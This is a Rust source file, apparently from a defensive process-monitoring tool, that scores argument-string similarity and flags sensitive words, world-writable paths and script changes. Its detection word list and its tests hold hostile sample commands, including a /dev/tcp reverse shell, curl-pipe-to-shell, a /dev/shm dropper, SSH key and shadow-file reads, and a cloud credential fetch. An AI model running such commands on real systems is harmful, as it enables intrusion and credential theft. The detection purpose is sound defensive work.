//! Argument similarity: the embedding's angle plus a structural distance.
//!
//! A sentence model alone cannot separate same-behaviour from
//! different-behaviour argument strings with a margin (docs/embeddings.md,
//! Calibration): it scores `-namespace k8s.io -id <hex> -address …` and a
//! miner's `-B -o <ipv4>:<num> -u x -p x` 0.24 apart at best, and a pool
//! change of a miner lower than some attacks. The lexical *shape* of the
//! arguments (which flags, which operands, which shell operators) says what
//! the model misses, and what it says can be shown to a person.
//!
//! The measure is a distance, so that the profile's exemplar balls stay sound
//! when they merge (the triangle inequality holds):
//!
//! ```text
//! d(a, b) = min(π, angle(embedding a, embedding b) + structure(a, b))
//! structure(a, b) = STRUCTURE_WEIGHT · J(shape a, shape b)
//!                 + CUE_WEIGHT · (script(a, b) + writable(a, b) + Js(sensitive a, sensitive b))
//! similarity = cos d        (= the cosine when the shapes are equal)
//! ```
//!
//! `angle` is the great-circle distance on the unit sphere and `J` the weighted
//! Jaccard distance of the two shapes (a metric on weighted sets). The three
//! *cues* say what a sentence model and word overlap both miss, because one
//! changed word in a long line carries the behaviour:
//!
//! - `script`: the program file the arguments run (the first operand, not a
//!   flag or URL, ending in `.py`, `.php`, `.js`, `.jar`, `.sh`, …): 0 if
//!   equal, 1 if both have one and they differ, ½ if only one has one
//!   (`index.php` → `uploads/shell.php`).
//! - `writable`: 1 if exactly one string names a path under a world-writable
//!   directory (`/tmp`, `/var/tmp`, `/dev/shm`), where droppers stage payloads
//!   (the same directories Falco's and Tetragon's default policies watch).
//! - `Js`: the Jaccard distance of the sets of security-sensitive words
//!   ([`SENSITIVE_WORDS`]: credential stores, debug and code-loading switches,
//!   defence evasion, network shells, mining), 0 when neither has any.
//!
//! Each cue is a (pseudo)metric, a sum of metrics is a metric on the pairs,
//! and so is its minimum with a constant.

use std::cmp::Ordering;
use std::f64::consts::PI;
use std::fmt;

/// Version of the argument measure: [`arg_distance`] and its parts, and the
/// text the model reads ([`crate::model_text`]). Profiles record it; bump it
/// whenever a change moves distances, so that radii and thresholds computed
/// under another version are not trusted (`kestrel-profile` drops them on
/// load). 1: every build before it was recorded (cosine, then cosine +
/// shape); 2: shape + cues, placeholders spelled as one word piece.
pub const ARG_MEASURE: u32 = 2;

/// Radians added to the embedding angle per unit of structural distance
/// (`J` ∈ [0, 1]). Chosen on the tuning sets only (docs/embeddings.md).
pub const STRUCTURE_WEIGHT: f64 = 1.0;
/// Radians added per unit of each cue (script, writable directory, sensitive
/// words). Any value in [0.5, 1] gives the same errors on the tuning sets.
pub const CUE_WEIGHT: f64 = 0.75;

/// Words whose appearance or disappearance changes what a process can reach:
/// credential stores and secrets, remote-debugging and code-loading switches,
/// defence evasion and privilege, network shells, mining. Lower case, sorted;
/// a word matches a whole path segment or word (`.ssh` also matches
/// `/root/.ssh`, `jdwp` matches `-agentlib:jdwp=…`).
pub const SENSITIVE_WORDS: [&str; 62] = [
    ".aws",
    ".env",
    ".git-credentials",
    ".netrc",
    ".pgpass",
    ".ssh",
    "/dev/tcp",
    "/dev/udp",
    "agentlib",
    "apparmor",
    "auditd",
    "authentication_string",
    "authorized_keys",
    "bash_history",
    "chroot",
    "cluster-admin",
    "credentials",
    "donate-level",
    "gdb",
    "gshadow",
    "histfile",
    "htpasswd",
    "id_ecdsa",
    "id_ed25519",
    "id_rsa",
    "insmod",
    "inspect",
    "inspect-brk",
    "iptables",
    "jdwp",
    "jmxremote",
    "keytab",
    "kubeconfig",
    "ld.so.preload",
    "ld_preload",
    "mkfifo",
    "modprobe",
    "monero",
    "mysql.user",
    "nsenter",
    "passwd",
    "password",
    "passwords",
    "pg_authid",
    "pg_shadow",
    "privileged",
    "privkey",
    "ptrace",
    "pty",
    "pty.spawn",
    "remote-debugging-port",
    "secret",
    "secrets",
    "security-credentials",
    "serviceaccount",
    "setenforce",
    "shadow",
    "stratum+ssl",
    "stratum+tcp",
    "token",
    "tokens",
    "xmr",
];
/// More words than this are not collected per string (bounded work).
const MAX_SENSITIVE: usize = 32;
/// File endings of program files run by an interpreter or loader.
const SCRIPT_ENDINGS: [&str; 10] = [
    ".py", ".php", ".js", ".mjs", ".jar", ".sh", ".pl", ".rb", ".dll", ".war",
];
/// World-writable directories (a path under one starts with one of these).
const WRITABLE_DIRS: [&str; 3] = ["/tmp", "/var/tmp", "/dev/shm"];

/// Weight of a flag name (`-o`, `--port`, `-Dserver.port`).
const FLAG_WEIGHT: f32 = 1.0;
/// Weight of an operand word: a positional argument or a piece of one
/// (path segments, URL scheme, host and path, subcommands, values after a space).
const OPERAND_WEIGHT: f32 = 1.0;
/// Weight of a word in a flag's `=value` (values change with configuration).
const VALUE_WEIGHT: f32 = 0.5;
/// Weight of a normaliser placeholder (`<num>`, `<ipv4>`, …): says little.
const PLACEHOLDER_WEIGHT: f32 = 0.25;
/// Weight of a shell operator (`|`, `&&`, `;`, `>&`, `$(` …).
const OPERATOR_WEIGHT: f32 = 1.0;
/// At most this many features are kept per string (bounded work on huge input).
const MAX_FEATURES: usize = 256;

/// What a feature of an argument string is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum FeatureKind {
    /// A flag name: `-o`, `--port` (without its `=value`).
    Flag,
    /// A word of a positional argument: `worker`, `stratum+tcp`, `app.jar`.
    Operand,
    /// A word of a flag's `=value`: `prod` in `--profile=prod`.
    Value,
    /// A shell operator: `|`, `||`, `&&`, `;`, `&`, `>&`, `<&`, `>>`, `>`, `<`, `$(`, a backtick.
    Operator,
}

impl FeatureKind {
    fn plural(self) -> &'static str {
        match self {
            FeatureKind::Flag => "flags",
            FeatureKind::Operand => "operands",
            FeatureKind::Value => "values",
            FeatureKind::Operator => "operators",
        }
    }
}

/// One feature: kind, text (operands and values lower-cased) and weight.
#[derive(Clone, Debug, PartialEq)]
pub struct Feature {
    /// What it is.
    pub kind: FeatureKind,
    /// Its text.
    pub text: Box<str>,
    /// Its weight in the Jaccard distance.
    pub weight: f32,
}

/// The lexical shape of a normalised argument string (what follows
/// `argv[0]`, as the profile stores it): its flags, operand words, `=`-values
/// and shell operators, each with a weight.
///
/// ```
/// use kestrel_embed::{ArgShape, FeatureKind};
/// let s = ArgShape::of("-o stratum+tcp://pool.xx:<num> -u <b64> -p x");
/// let flags: Vec<&str> = s.features().iter()
///     .filter(|f| f.kind == FeatureKind::Flag).map(|f| &*f.text).collect();
/// assert_eq!(flags, ["-o", "-p", "-u"]);
/// assert!(s.features().iter().any(|f| &*f.text == "stratum+tcp"));
/// ```
#[derive(Clone, Debug, Default, PartialEq)]
pub struct ArgShape {
    /// Sorted by (kind, text), one entry per (kind, text), the largest weight kept.
    features: Vec<Feature>,
    /// The program file the arguments run, lower-cased (`app.jar`, `index.php`).
    script: Option<Box<str>>,
    /// Whether a path under a world-writable directory appears.
    writable: bool,
    /// The [`SENSITIVE_WORDS`] present, sorted, without repeats.
    sensitive: Vec<&'static str>,
}

impl ArgShape {
    /// The shape of a normalised argument string. Linear in its length;
    /// never fails (any text has a shape, possibly empty).
    pub fn of(args: &str) -> Self {
        let mut features = Vec::new();
        for token in args.split_whitespace() {
            if features.len() >= MAX_FEATURES {
                break;
            }
            let token = token.trim_matches(|c| c == '\'' || c == '"');
            if is_flag(token) {
                let (name, value) = match token.split_once('=') {
                    Some((n, v)) => (n, Some(v)),
                    None => (token, None),
                };
                push(&mut features, FeatureKind::Flag, name.into(), FLAG_WEIGHT);
                if let Some(v) = value {
                    words(v, FeatureKind::Value, VALUE_WEIGHT, &mut features);
                }
            } else {
                words(token, FeatureKind::Operand, OPERAND_WEIGHT, &mut features);
            }
        }
        features.truncate(MAX_FEATURES);
        features.sort_by(|a, b| (a.kind, &a.text).cmp(&(b.kind, &b.text)));
        // Equal (kind, text): keep the largest weight (sorted order is stable,
        // so compare weights explicitly).
        let mut out: Vec<Feature> = Vec::with_capacity(features.len());
        for f in features {
            match out.last_mut() {
                Some(last) if last.kind == f.kind && last.text == f.text => {
                    last.weight = last.weight.max(f.weight);
                }
                _ => out.push(f),
            }
        }
        ArgShape {
            features: out,
            script: script_of(args),
            writable: names_writable_dir(args),
            sensitive: sensitive_words(args),
        }
    }

    /// The features, sorted by kind and text.
    pub fn features(&self) -> &[Feature] {
        &self.features
    }

    /// The program file the arguments run (the first word ending in `.py`,
    /// `.php`, `.js`, `.mjs`, `.jar`, `.sh`, `.pl`, `.rb`, `.dll` or `.war`),
    /// lower-cased.
    pub fn script(&self) -> Option<&str> {
        self.script.as_deref()
    }

    /// Whether a path under `/tmp`, `/var/tmp` or `/dev/shm` appears.
    pub fn names_writable_dir(&self) -> bool {
        self.writable
    }

    /// The [`SENSITIVE_WORDS`] that appear, sorted.
    pub fn sensitive(&self) -> &[&'static str] {
        &self.sensitive
    }

    /// The cues' distance in [0, 3]: script (0, ½ or 1) + writable directory
    /// (0 or 1) + Jaccard distance of the sensitive words. A metric.
    pub fn cue_distance(&self, other: &ArgShape) -> f64 {
        let script = match (&self.script, &other.script) {
            (None, None) => 0.0,
            (Some(a), Some(b)) if a == b => 0.0,
            (Some(_), Some(_)) => 1.0,
            _ => 0.5,
        };
        let writable = if self.writable == other.writable {
            0.0
        } else {
            1.0
        };
        let (a, b) = (&self.sensitive, &other.sensitive);
        let shared = a.iter().filter(|w| b.binary_search(w).is_ok()).count();
        let union = a.len() + b.len() - shared;
        let words = if union == 0 {
            0.0
        } else {
            1.0 - shared as f64 / union as f64
        };
        script + writable + words
    }

    /// The structural part of the argument distance, in radians:
    /// `STRUCTURE_WEIGHT · J + CUE_WEIGHT · cues` (see the module docs).
    pub fn structural_distance(&self, other: &ArgShape) -> f64 {
        STRUCTURE_WEIGHT * self.distance(other) + CUE_WEIGHT * self.cue_distance(other)
    }

    /// Weighted Jaccard distance `1 − Σ min(w) / Σ max(w)` over the union of
    /// features, in [0, 1]; 0 for two empty shapes. A metric.
    pub fn distance(&self, other: &ArgShape) -> f64 {
        let (mut min, mut max) = (0f64, 0f64);
        merge(&self.features, &other.features, |a, b| match (a, b) {
            (Some(x), Some(y)) => {
                min += f64::from(x.weight.min(y.weight));
                max += f64::from(x.weight.max(y.weight));
            }
            (Some(x), None) | (None, Some(x)) => max += f64::from(x.weight),
            (None, None) => {}
        });
        if max <= 0.0 {
            0.0
        } else {
            (1.0 - min / max).clamp(0.0, 1.0)
        }
    }

    /// What `observed` has that `self` lacks, and what it lacks of `self`.
    pub fn diff(&self, observed: &ArgShape) -> ShapeDiff {
        let mut d = ShapeDiff::default();
        let only_in = |a: &[&'static str], b: &[&'static str]| -> Vec<&'static str> {
            a.iter()
                .filter(|w| b.binary_search(w).is_err())
                .copied()
                .collect()
        };
        for (label, words) in [
            ("new", only_in(&observed.sensitive, &self.sensitive)),
            ("missing", only_in(&self.sensitive, &observed.sensitive)),
        ] {
            if !words.is_empty() {
                d.notes
                    .push(format!("{label} sensitive words {}", words.join(" ")));
            }
        }
        if self.writable != observed.writable {
            d.notes.push(if observed.writable {
                "a path in a world-writable directory (/tmp, /var/tmp, /dev/shm)".to_string()
            } else {
                "no longer a path in a world-writable directory".to_string()
            });
        }
        if self.script != observed.script {
            let name = |s: &Option<Box<str>>| s.as_deref().unwrap_or("none").to_string();
            d.notes.push(format!(
                "program file {} instead of {}",
                name(&observed.script),
                name(&self.script)
            ));
        }
        merge(&self.features, &observed.features, |a, b| match (a, b) {
            (None, Some(x)) => d.added.push((x.kind, x.text.to_string())),
            (Some(x), None) => d.missing.push((x.kind, x.text.to_string())),
            _ => {}
        });
        d
    }
}

/// Walks two sorted feature lists together.
fn merge(a: &[Feature], b: &[Feature], mut f: impl FnMut(Option<&Feature>, Option<&Feature>)) {
    let (mut i, mut j) = (0, 0);
    while i < a.len() || j < b.len() {
        let ord = match (a.get(i), b.get(j)) {
            (Some(x), Some(y)) => (x.kind, &x.text).cmp(&(y.kind, &y.text)),
            (Some(_), None) => Ordering::Less,
            _ => Ordering::Greater,
        };
        match ord {
            Ordering::Less => {
                f(a.get(i), None);
                i += 1;
            }
            Ordering::Greater => {
                f(None, b.get(j));
                j += 1;
            }
            Ordering::Equal => {
                f(a.get(i), b.get(j));
                i += 1;
                j += 1;
            }
        }
    }
}

/// Length of a normaliser placeholder (`<num>`, `<tmp>` …) at the start of
/// `b`, if one is there.
fn placeholder_len(b: &[u8]) -> Option<usize> {
    let n = b
        .iter()
        .skip(1)
        .position(|c| !(c.is_ascii_lowercase() || c.is_ascii_digit()))?;
    (b.first() == Some(&b'<') && n > 0 && b.get(n + 1) == Some(&b'>')).then_some(n + 2)
}

/// The program file the arguments run: the first operand piece whose last
/// path segment ends in a [`SCRIPT_ENDINGS`] entry after at least one other
/// byte (not a dot), lower-cased. Operands are the whitespace-separated
/// tokens that are not flags (`-…`); a token holding `://` (a URL) or `:` (a
/// class path, `host:port`) is skipped; a token is cut into pieces at shell
/// punctuation (`; | & > < ( ) , = \``, quotes) outside placeholders, so
/// `ok>run.sh` gives `run.sh` and `/tmp/<tmp>.sh` gives `<tmp>.sh`.
fn script_of(text: &str) -> Option<Box<str>> {
    let cut = |c: u8| {
        matches!(
            c,
            b';' | b'|' | b'&' | b'>' | b'<' | b'(' | b')' | b',' | b'=' | b'`' | b'\'' | b'"'
        )
    };
    for token in text.split_ascii_whitespace() {
        let token = token.trim_matches(|c| c == '\'' || c == '"');
        if token.starts_with('-') || token.contains(':') {
            continue;
        }
        let b = token.as_bytes();
        let (mut i, mut start) = (0, 0);
        while i <= b.len() {
            if i < b.len() && b[i] == b'<' {
                if let Some(n) = placeholder_len(&b[i..]) {
                    i += n;
                    continue;
                }
            }
            if i == b.len() || cut(b[i]) {
                let piece = &token[start..i];
                let name = piece
                    .rsplit('/')
                    .next()
                    .unwrap_or(piece)
                    .to_ascii_lowercase();
                for end in SCRIPT_ENDINGS {
                    if name.len() > end.len() && name.ends_with(end) {
                        let before = name.as_bytes()[name.len() - end.len() - 1];
                        if before != b'.' {
                            return Some(name.into());
                        }
                    }
                }
                start = i + 1;
            }
            i += 1;
        }
    }
    None
}

/// Whether a path under a [`WRITABLE_DIRS`] entry appears. The directory must
/// start a path: at the start of the text, after a byte that cannot be part
/// of a name (not a letter, digit, `_`, `.` or `-`: so after whitespace,
/// quotes, `= : ( > < ; | & , @` or a backtick, and after `/` as in
/// `file:///tmp`), or glued to a short option (`-qO/tmp/x`). It must end
/// there or go on with `/`: `/tmp-cache`, `/tmp.old` and `/app/tmp` are not
/// writable directories.
fn names_writable_dir(text: &str) -> bool {
    let b = text.as_bytes();
    let name_byte = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'-');
    let after_short_option = |i: usize| {
        let mut k = i;
        while k > 0 && b[k - 1].is_ascii_alphabetic() {
            k -= 1;
        }
        k < i
            && k > 0
            && b[k - 1] == b'-'
            && (k == 1 || matches!(b[k - 2], b' ' | b'\t' | b'\n' | b'\'' | b'"'))
    };
    WRITABLE_DIRS.iter().any(|dir| {
        text.match_indices(dir).any(|(i, _)| {
            let before_ok = i == 0 || !name_byte(b[i - 1]) || after_short_option(i);
            let after_ok = match b.get(i + dir.len()) {
                None => true,
                Some(&c) => c == b'/' || !name_byte(c),
            };
            before_ok && after_ok
        })
    })
}

/// The [`SENSITIVE_WORDS`] in `text`: each maximal run of letters, digits and
/// `_.+/-` is matched whole and segment by segment (split at `/`), with
/// leading and trailing `-` and trailing `.` removed (and once more without
/// leading dots); `/dev/tcp` and `/dev/udp` also match inside a run.
fn sensitive_words(text: &str) -> Vec<&'static str> {
    let lower = text.to_ascii_lowercase();
    let b = lower.as_bytes();
    let run_byte =
        |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'+' | b'/' | b'-');
    let mut found: Vec<&'static str> = Vec::new();
    let add = |w: &str, found: &mut Vec<&'static str>| {
        if let Ok(k) = SENSITIVE_WORDS.binary_search(&w) {
            let word = SENSITIVE_WORDS[k];
            if found.len() < MAX_SENSITIVE && !found.contains(&word) {
                found.push(word);
            }
        }
    };
    let mut i = 0;
    while i < b.len() {
        if !run_byte(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && run_byte(b[i]) {
            i += 1;
        }
        let run = &lower[start..i];
        for dev in ["/dev/tcp", "/dev/udp"] {
            if run.contains(dev) {
                add(dev, &mut found);
            }
        }
        for part in std::iter::once(run).chain(run.split('/')) {
            let p = part.trim_matches('-').trim_end_matches('.');
            add(p, &mut found);
            add(p.trim_start_matches('.'), &mut found);
        }
    }
    found.sort_unstable();
    found
}

/// `-x…` or `--x…` with `x` an ASCII letter.
fn is_flag(t: &str) -> bool {
    let b = t.as_bytes();
    match b {
        [b'-', b'-', c, ..] | [b'-', c, ..] => c.is_ascii_alphabetic(),
        _ => false,
    }
}

fn push(out: &mut Vec<Feature>, kind: FeatureKind, text: Box<str>, weight: f32) {
    if out.len() < MAX_FEATURES {
        out.push(Feature { kind, text, weight });
    }
}

const OPERATORS: [&str; 12] = [
    "||", "&&", "|", ";", "&", ">&", "<&", ">>", ">", "<", "$(", "`",
];

/// Splits `text` into words (runs of letters, digits and `_+.-`, trimmed of
/// `.`/`-`), normaliser placeholders (`<num>` …) and shell operators; every
/// other byte separates.
fn words(text: &str, kind: FeatureKind, weight: f32, out: &mut Vec<Feature>) {
    let b = text.as_bytes();
    let word = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'+' | b'.' | b'-');
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'<' {
            let end = b[i + 1..]
                .iter()
                .position(|c| !(c.is_ascii_lowercase() || c.is_ascii_digit()));
            if let Some(n) = end.filter(|&n| n > 0 && b.get(i + 1 + n) == Some(&b'>')) {
                let ph = &text[i..i + n + 2];
                push(out, kind, ph.into(), weight.min(PLACEHOLDER_WEIGHT));
                i += n + 2;
                continue;
            }
        }
        if word(b[i]) || !b[i].is_ascii() {
            let start = i;
            while i < b.len() && (word(b[i]) || !b[i].is_ascii()) {
                i += 1;
            }
            let w = text[start..i].trim_matches(|c| c == '.' || c == '-');
            if !w.is_empty() {
                push(out, kind, w.to_lowercase().into(), weight);
            }
            continue;
        }
        if let Some(op) = OPERATORS.iter().find(|op| text[i..].starts_with(**op)) {
            push(out, FeatureKind::Operator, (*op).into(), OPERATOR_WEIGHT);
            i += op.len();
            continue;
        }
        i += 1;
    }
}

/// Features one string has and the other lacks.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ShapeDiff {
    /// What the cues found, in words (sensitive words, a world-writable
    /// directory, another program file); shown first.
    pub notes: Vec<String>,
    /// In the observed string only.
    pub added: Vec<(FeatureKind, String)>,
    /// In the known string only.
    pub missing: Vec<(FeatureKind, String)>,
}

impl fmt::Display for ShapeDiff {
    /// `new flags -o -u -p; new operands stratum+tcp; missing flags -jar`
    /// (at most 8 items per group).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut first = true;
        for note in &self.notes {
            if !first {
                f.write_str("; ")?;
            }
            first = false;
            f.write_str(note)?;
        }
        for (label, list) in [("new", &self.added), ("missing", &self.missing)] {
            for kind in [
                FeatureKind::Flag,
                FeatureKind::Operator,
                FeatureKind::Operand,
                FeatureKind::Value,
            ] {
                let items: Vec<&str> = list
                    .iter()
                    .filter(|(k, _)| *k == kind)
                    .map(|(_, t)| t.as_str())
                    .collect();
                if items.is_empty() {
                    continue;
                }
                if !first {
                    f.write_str("; ")?;
                }
                first = false;
                write!(
                    f,
                    "{label} {} {}",
                    kind.plural(),
                    items[..items.len().min(8)].join(" ")
                )?;
                if items.len() > 8 {
                    write!(f, " (+{})", items.len() - 8)?;
                }
            }
        }
        if first {
            f.write_str("same flags and operands")?;
        }
        Ok(())
    }
}

/// Cosine similarity of two vectors (1.0 = same direction). Returns 0.0 when
/// either is all zeros or the lengths differ.
pub fn cosine(a: &[f32], b: &[f32]) -> f32 {
    if a.len() != b.len() {
        return 0.0;
    }
    let (mut dot, mut na, mut nb) = (0.0f32, 0.0f32, 0.0f32);
    for (x, y) in a.iter().zip(b) {
        dot += x * y;
        na += x * x;
        nb += y * y;
    }
    if na == 0.0 || nb == 0.0 {
        return 0.0;
    }
    dot / (na.sqrt() * nb.sqrt())
}

/// Angle (radians) between two unit vectors given their cosine.
pub fn angle_of_cosine(cosine: f32) -> f64 {
    f64::from(cosine).clamp(-1.0, 1.0).acos()
}

/// The combined distance `min(π, angle + structure)`, with `structure` from
/// [`ArgShape::structural_distance`] (radians).
pub fn arg_distance(angle: f64, structure: f64) -> f64 {
    (angle + structure).clamp(0.0, PI)
}

/// Argument similarity of two normalised argument strings, given the cosine
/// of their embeddings and their shapes: `cos(arg_distance(…))`. Equals the
/// cosine when the shapes are equal; compare it with
/// [`default_threshold`](crate::default_threshold).
pub fn arg_similarity(cosine: f32, a: &ArgShape, b: &ArgShape) -> f32 {
    arg_distance(angle_of_cosine(cosine), a.structural_distance(b)).cos() as f32
}

/// Why an argument string is (un)like a known one: the similarity, its two
/// parts, and the features that differ.
#[derive(Clone, Debug, PartialEq)]
pub struct ArgComparison {
    /// [`arg_similarity`].
    pub similarity: f32,
    /// Cosine of the embeddings.
    pub cosine: f32,
    /// Structural (weighted Jaccard) distance of the shapes, in [0, 1].
    pub structure: f32,
    /// The cues' distance ([`ArgShape::cue_distance`]), in [0, 3].
    pub cues: f32,
    /// Features that differ (observed vs known).
    pub diff: ShapeDiff,
}

impl ArgComparison {
    /// Compares an `observed` argument string with a `known` one whose
    /// embeddings have cosine `cosine`.
    pub fn new(known: &str, observed: &str, cosine: f32) -> Self {
        let (k, o) = (ArgShape::of(known), ArgShape::of(observed));
        let structure = k.distance(&o);
        let cues = k.cue_distance(&o);
        ArgComparison {
            similarity: arg_distance(angle_of_cosine(cosine), k.structural_distance(&o)).cos()
                as f32,
            cosine,
            structure: structure as f32,
            cues: cues as f32,
            diff: k.diff(&o),
        }
    }
}

impl fmt::Display for ArgComparison {
    /// `similarity -0.93 (cosine 0.17, structure 0.95, cues 1.50): new flags -o -u -p; …`
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "similarity {:.2} (cosine {:.2}, structure {:.2}, cues {:.2}): {}",
            self.similarity, self.cosine, self.structure, self.cues, self.diff
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(s: &ArgShape, kind: FeatureKind) -> Vec<&str> {
        s.features()
            .iter()
            .filter(|f| f.kind == kind)
            .map(|f| &*f.text)
            .collect()
    }

    #[test]
    fn flags_operands_values_and_operators_are_told_apart() {
        let s = ArgShape::of(
            "-jar /app/app.jar --spring.profiles.active=prod 'curl http://<ipv4>/s.sh | sh'",
        );
        assert_eq!(
            texts(&s, FeatureKind::Flag),
            ["--spring.profiles.active", "-jar"]
        );
        assert_eq!(texts(&s, FeatureKind::Value), ["prod"]);
        assert_eq!(texts(&s, FeatureKind::Operator), ["|"]);
        assert_eq!(
            texts(&s, FeatureKind::Operand),
            ["<ipv4>", "app", "app.jar", "curl", "http", "s.sh", "sh"]
        );
        let ph = s.features().iter().find(|f| &*f.text == "<ipv4>").unwrap();
        assert_eq!(ph.weight, PLACEHOLDER_WEIGHT);
    }

    #[test]
    fn the_distance_is_zero_for_equal_shapes_and_one_for_disjoint_ones() {
        let a = ArgShape::of("-jar app.jar --timestamp=<num>");
        assert_eq!(
            a.distance(&ArgShape::of("-jar app.jar --timestamp=<num>")),
            0.0
        );
        assert_eq!(ArgShape::of("").distance(&ArgShape::of("")), 0.0);
        let b = ArgShape::of("-o stratum+tcp://pool.xx:4444");
        assert_eq!(a.distance(&b), 1.0);
        // -jar app.jar shared (2), --timestamp=<num> (1 + 0.25) only in a, --port only in c.
        let c = ArgShape::of("-jar app.jar --port");
        assert!((a.distance(&c) - (1.0 - 2.0 / 4.25)).abs() < 1e-9);
    }

    #[test]
    fn the_distance_obeys_the_triangle_inequality_on_samples() {
        let samples = [
            "",
            "-jar app.jar --timestamp=<num>",
            "-jar app.jar --port <num>",
            "-o stratum+tcp://pool.xx:<num> -u <b64> -p x",
            "-c 'bash -i >& /dev/tcp/<ipv4>/<num> <num>>&<num>'",
            "-m celery -A proj worker --loglevel=info",
            "-m celery -A proj beat --loglevel=info",
        ];
        let shapes: Vec<ArgShape> = samples
            .iter()
            .chain(&[
                "-jar /tmp/x.jar",
                "-jar /app/app.jar -agentlib:jdwp=transport=dt_socket",
                "/var/www/html/uploads/shell.php",
                "cat /root/.ssh/id_rsa /etc/shadow",
                "cat /etc/shadow",
            ])
            .map(|s| ArgShape::of(s))
            .collect();
        for a in &shapes {
            assert_eq!(a.structural_distance(a), 0.0);
            for b in &shapes {
                assert!((a.distance(b) - b.distance(a)).abs() < 1e-12);
                assert!((a.cue_distance(b) - b.cue_distance(a)).abs() < 1e-12);
                for c in &shapes {
                    assert!(a.distance(c) <= a.distance(b) + b.distance(c) + 1e-12);
                    assert!(a.cue_distance(c) <= a.cue_distance(b) + b.cue_distance(c) + 1e-12);
                    assert!(
                        a.structural_distance(c)
                            <= a.structural_distance(b) + b.structural_distance(c) + 1e-12
                    );
                }
            }
        }
    }

    #[test]
    fn equal_shapes_keep_the_cosine_and_different_ones_lower_it() {
        let a = ArgShape::of("-jar app.jar");
        assert!((arg_similarity(0.8, &a, &a) - 0.8).abs() < 1e-6);
        let b = ArgShape::of("-o pool:<num> -u <b64>");
        assert!(arg_similarity(0.8, &a, &b) < 0.8 - 0.5);
        assert_eq!(arg_distance(3.0, 1.0), PI);
    }

    #[test]
    fn a_comparison_says_which_flags_are_new() {
        let c = ArgComparison::new(
            "-jar app.jar --timestamp=<num>",
            "-o stratum+tcp://pool.xx:<num> -u <b64> -p x",
            0.17,
        );
        let text = c.to_string();
        assert!(text.starts_with("similarity "), "{text}");
        assert!(text.contains("new flags -o -p -u"), "{text}");
        assert!(text.contains("missing flags --timestamp -jar"), "{text}");
        assert!(text.contains("stratum+tcp"), "{text}");
        assert_eq!(c.structure, 1.0);
    }

    #[test]
    fn the_program_file_is_the_first_operand_with_a_script_ending() {
        let script = |s: &str| ArgShape::of(s).script().map(str::to_owned);
        assert_eq!(
            script("-Xmx1g -jar /app/App.jar --port <num>").as_deref(),
            Some("app.jar")
        );
        assert_eq!(
            script("/var/www/html/uploads/shell.php").as_deref(),
            Some("shell.php")
        );
        assert_eq!(
            script("-c 'chmod +x /tmp/<tmp>.sh'").as_deref(),
            Some("<tmp>.sh")
        );
        assert_eq!(script("-c 'echo ok>run.sh'").as_deref(), Some("run.sh"));
        // Flag values, URLs, class paths and host names are not the program.
        assert_eq!(
            script("-javaagent:/otel/agent.jar -jar /app/billing.jar").as_deref(),
            Some("billing.jar")
        );
        assert_eq!(script("-cp /a/x.jar:/a/y.jar Main"), None);
        assert_eq!(script("-fsSL https://bun.sh/install"), None);
        assert_eq!(script("-o stratum+tcp://pool.example.pl:<num>"), None);
        assert_eq!(script("--config /etc/app/config.json"), None);
        assert_eq!(script("-c /etc/x..sh .py"), None);
        assert_eq!(script(""), None);
    }

    #[test]
    fn paths_in_world_writable_directories_are_noticed_where_a_path_starts() {
        let w = |s: &str| ArgShape::of(s).names_writable_dir();
        assert!(w("-c 'chmod +x /tmp/x && /tmp/x'"));
        assert!(w("--dir=/dev/shm/.x"));
        assert!(w("-C /var/tmp"));
        assert!(w("/tmp"));
        assert!(w("-c 'echo <b64>|base64 -d>/dev/shm/x;sh</dev/shm/x'"));
        assert!(w("-qO/tmp/.x http://<ipv4>/x"));
        assert!(w("-d @/tmp/x file:///tmp/y"));
        assert!(!w("--mount /tmpfs/a"));
        assert!(!w("/tmp-cache/x /tmp.old /var/tmp-x /dev/shm.bak/a"));
        assert!(!w("/app/tmp/x"));
        assert!(!w("--output/tmp/x"));
        assert!(!w("-jar /app/app.jar"));
    }

    #[test]
    fn sensitive_words_match_whole_words_and_path_segments() {
        let s = |t: &str| ArgShape::of(t).sensitive().to_vec();
        assert_eq!(
            s("-agentlib:jdwp=transport=dt_socket,server=y -jar a.jar"),
            ["agentlib", "jdwp"]
        );
        assert_eq!(
            s("czf - /root/.ssh/id_rsa /etc/shadow"),
            [".ssh", "id_rsa", "shadow"]
        );
        assert_eq!(
            s("-c 'bash -i >& /dev/tcp/<ipv4>/<num> <num>>&<num>'"),
            ["/dev/tcp"]
        );
        assert_eq!(
            s("-s http://<ipv4>/latest/meta-data/iam/security-credentials/x"),
            ["security-credentials"]
        );
        assert_eq!(s("--Inspect=<ipv4>:<num> index.js"), ["inspect"]);
        // Near misses: a dot-word needs its dot, and a longer word is another word.
        assert!(s("/usr/bin/env ssh host --shadowing --password-file=/x").is_empty());
    }

    #[test]
    fn cues_lower_the_similarity_and_say_why() {
        let known = "-c 'chmod +x /app/bin/start.sh && /app/bin/start.sh'";
        let observed = "-c 'chmod +x /tmp/x && /tmp/x'";
        let (k, o) = (ArgShape::of(known), ArgShape::of(observed));
        assert_eq!(k.cue_distance(&o), 0.5 + 1.0);
        assert!(arg_similarity(0.59, &k, &o) < arg_similarity(0.59, &k, &k) - 0.5);
        let text = ArgComparison::new(known, observed, 0.59).to_string();
        assert!(text.contains("world-writable"), "{text}");
        assert!(
            text.contains("program file none instead of start.sh"),
            "{text}"
        );
        let c = ArgComparison::new(
            "-s http://<ipv4>/latest/meta-data/instance-id",
            "-s http://<ipv4>/latest/meta-data/iam/security-credentials/node",
            0.59,
        );
        assert_eq!(c.cues, 1.0);
        assert!(
            c.to_string()
                .contains("new sensitive words security-credentials"),
            "{c}"
        );
        // Equal cues add nothing.
        let a = ArgShape::of("cat /etc/shadow");
        assert_eq!(a.cue_distance(&ArgShape::of("-n cat /etc/shadow")), 0.0);
    }

    #[test]
    fn the_sensitive_word_list_is_sorted_lower_case_and_without_repeats() {
